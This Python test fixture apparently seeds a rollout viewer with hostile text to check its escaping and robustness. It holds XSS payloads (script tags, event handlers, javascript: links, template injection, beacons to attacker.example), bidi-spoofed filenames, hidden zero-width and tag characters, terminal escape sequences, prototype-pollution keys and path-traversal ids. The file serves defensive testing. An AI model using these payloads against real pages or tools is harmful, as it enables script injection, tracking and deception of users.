"""Texts with which a policy, a worker or a task attacks whoever looks at its rollouts.

If one of them is taken for more than text, then it runs a script that sets `window.attacked`, makes an
element with the attribute `data-attack` or one that asks `attacker.example`, or hides what it says.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any, Final

from rollyard_api.jobs.tasks import TaskRow
from rollyard_api.machine.states import RolloutState
from rollyard_api.trajectories import attempts

from rollyard_testing.page.conversations import Conversations, Step
from rollyard_testing.page.store import Result, Rollout, Store, recorded, task_row

ATTACKER: Final = "attacker.example"
_BEACON: Final = f"https://{ATTACKER}/beacon"

TEXTS: Final[Mapping[str, str]] = {
    "script": "<script data-attack>window.attacked='script'</script>",
    "end of a script": f"</script></textarea></title><script data-attack src={_BEACON}></script>",
    "handler": "<img data-attack src=x onerror=\"window.attacked='handler'\">",
    "svg": "<svg data-attack onload=\"window.attacked='svg'\"><use href='data:,x'></use></svg>",
    "frame": f'<iframe data-attack src={_BEACON} srcdoc="<script>parent.attacked=1</script>"></iframe>',
    "form": f'<form data-attack action={_BEACON}><input autofocus onfocus="window.attacked=1"></form>',
    "style": f"<style data-attack>@import '{_BEACON}';*{{display:none!important}}</style>",
    "refresh": f'<meta data-attack http-equiv=refresh content="0;url={_BEACON}"><base href={_BEACON}>',
    "link": "<a data-attack href=\"javascript:window.attacked='link'\">x</a> [x](javascript:alert(1))",
    "picture": f"![chart]({_BEACON}.png) <link rel=stylesheet href={_BEACON}> {_BEACON}",
    "template": "${window.attacked='template'} {{constructor.constructor(\"window.attacked='mustache'\")()}}",
    "quotes": "\"'`><b data-attack onmouseover=alert(1)>&lt;b&gt;&amp;&#60;",
    "direction": "invoice\u202egnp.exe\u202c and \u2066isolated\u2069 \u200fmarks\u200e",
    "zero width": "pay\u200bload\u200c\u200d\u2060\ufeff\u00ad end",
    "tags": "seen" + "".join(chr(0xE0000 + ord(c)) for c in "hidden instruction") + " end",
    "terminal": "\x1b[31mred\x1b[0m\x1b[2J\x1b]0;title\x07\x1b]8;;https://attacker.example\x07x\x1b]8;;\x07",
    "controls": "null \x00 bell \x07 back\x08 C1 \x9b31m \x85 del \x7f lines\u2028and\u2029paragraphs\r\n",
    "combining": "Z" + "\u0301\u0320\u0489" * 400,
    "no space": "W" * 50_000,
    "prototype": "__proto__",
}

NAMES: Final = ("__proto__", "constructor", "toString", "hasOwnProperty", "__defineGetter__")
"""Keys that mean something to an object of JavaScript."""

LEGAL_TASK_IDS: Final = ("a/../../b", "c//d/./e:f", "v1/overview", "constructor", "x" * 128)
"""Ids of tasks that requests may bring."""
ILLEGAL_TASK_IDS: Final = (
    "%2e%2e/%2f",
    "q\"u'o`t<e data-attack>",
    "a?b#c&d",
    "../up",
    " sp ace ",
    "\u202eeltit",
    "__proto__",
)
"""Ids that no request can bring, but that a damaged database may hold."""

LARGE: Final = 10 << 20
"""The number of characters of a large output."""


def _everywhere(text: str, conversations: Conversations) -> dict[str, Any]:
    """Return a trajectory that has the text in every place that a policy or a handler fills."""
    steps = [Step(text, text, text), Step(f"then {text}")]
    # Tokens of a text of this length are no further test, and would only take time.
    made = conversations.trajectory(text[:2000], [Step(s.text[:2000]) for s in steps], [text[:64]])
    made["messages"] = [
        {"role": "system", "content": text},
        {"role": "user", "content": text},
        {
            "role": "assistant",
            "content": text,
            "tool_calls": [
                {
                    "id": "call_0",
                    "type": "function",
                    "function": {
                        "name": text[:128],
                        "arguments": {text[:64]: text, "__proto__": {"x": text}},
                    },
                }
            ],
        },
        {"role": "tool", "name": text[:128], "tool_call_id": "call_0", "content": text},
        {"role": "assistant", "content": text},
    ]
    made["turns"][0]["tool_calls"] = [
        {
            "name": text[:128],
            "arguments": {"__proto__": {"x": text}, "y": text},
            "error": text,
            "seconds": 0.1,
        }
    ]
    made["metadata"] = {"__proto__": {"attacked": text}, "eval": text, text[:64]: [text]}
    made["truncated"], made["truncated_reason"] = True, text[:64]
    made |= {"conversation": 1, "continues": 0}
    made["branches"] = [
        {
            "number": number,
            "kind": kind,
            "trained": False,
            "parent": number - 1 if number > 2 else None,
            "messages": made["messages"],
            "turns": [made["turns"][0] | {"asked": {text[:64]: text}}],
        }
        for number, kind in ((0, "main"), (2, text[:64]), (3, "__proto__"))
    ]
    made["harness"] = {"name": text[:128], "exit_code": None, "output": text, "log": text}
    return made


def _failure(text: str) -> bytes:
    one = attempts.attempt(
        stage="run",
        number=1,
        reason=text[:64],
        message=text,
        worker=text[:128],
        node=text[:128],
        started=1.0,
        seconds=2.0,
        counted=True,
    )
    return attempts.added(None, one)


def _results(now: float) -> list[Result]:
    """Return a rollout for each text, one after each other with another status, and some of another kind."""
    conversations = Conversations()
    made = []
    for number, text in enumerate(TEXTS.values()):
        failed = number % 2 == 1
        made.append(
            Result(
                state=RolloutState.FAILED if failed else RolloutState.SUCCEEDED,
                reward=None if failed else 0.5,
                ended_at=now - 60,
                recorded=recorded(_everywhere(text, conversations)),
                tokens=64,
                worker=text[:253].replace("\x00", ""),
                components={} if failed else {NAMES[number % len(NAMES)]: 0.5, "x": 1.0},
                reward_reason=None if failed else NAMES[number % len(NAMES)],
                reward_output=None if failed else text[-4096:].replace("\x00", ""),
                reason=text[:128].replace("\x00", "") if failed else None,
                message=text.replace("\x00", "") if failed else None,
                attempts=_failure(text),
            )
        )
    for name in NAMES:
        made.append(
            Result(
                state=RolloutState.FAILED,
                reward=None,
                ended_at=now - 50,
                reason=name,
                worker=name,
                message=name,
            )
        )
    output = f"first line\n{'x' * 80}\n" + "".join(f"line {n} <b data-attack>\n" for n in range(LARGE // 26))
    large = conversations.trajectory("Print much.", [Step("I print.", "yes", "y\n")], ["step-1"])
    large["messages"][2]["content"] = output.ljust(LARGE, "y")[:LARGE]
    made.append(Result(ended_at=now - 40, recorded=recorded(large), tokens=8))
    line = conversations.trajectory("Print one line.", [Step("I print.", "yes", "y")], ["step-1"])
    line["messages"][2]["content"] = "z" * LARGE
    made.append(Result(ended_at=now - 40, recorded=recorded(line), tokens=8))
    return made


SAMPLES: Final = 4


async def hostile_job(store: Store, name: str, now: float, pool: str | None = None) -> None:
    """Add a job whose rollouts hold every attack, in groups of SAMPLES, with a hostile id of a task for each.

    Args:
        store: The store.
        name: The name of the job.
        now: The time about which the rollouts end, in seconds since the epoch.
        pool: The pool whose tokenizer shows the tokens.
    """
    results = _results(now)
    count = -(-len(results) // SAMPLES)
    ids = [*LEGAL_TASK_IDS, *ILLEGAL_TASK_IDS]
    tasks: list[TaskRow] = [
        task_row(ids[no] if no < len(ids) else f"task-{no}", TEXTS["script"]) for no in range(count)
    ]
    order: list[Rollout] = [(place // SAMPLES, place % SAMPLES) for place in range(len(results))]
    await store.job(
        name,
        tasks,
        SAMPLES,
        lambda no, sample: results[no * SAMPLES + sample],
        order,
        began=now - 600,
        pool=pool,
    )
